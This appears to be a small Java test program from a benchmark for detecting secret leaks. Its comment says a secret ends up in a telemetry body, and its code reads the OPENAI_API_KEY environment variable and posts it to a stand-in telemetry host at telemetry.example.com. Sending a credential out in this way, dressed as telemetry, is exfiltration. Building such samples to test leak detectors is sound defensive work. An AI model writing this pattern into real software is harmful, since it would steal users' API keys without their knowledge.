package dev.telltale.bench.programs.x_secret_in_body;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

/** The value of a variable with a secret is in a telemetry body. */
public final class Program {
    private Program() {}

    public static void main(String[] args) throws Exception {
        post("key=" + System.getenv("OPENAI_API_KEY"));
    }

    private static void post(String body) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://telemetry.example.com/v1/events"))
                .POST(HttpRequest.BodyPublishers.ofString(body))
                .build();
        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.discarding());
    }
}
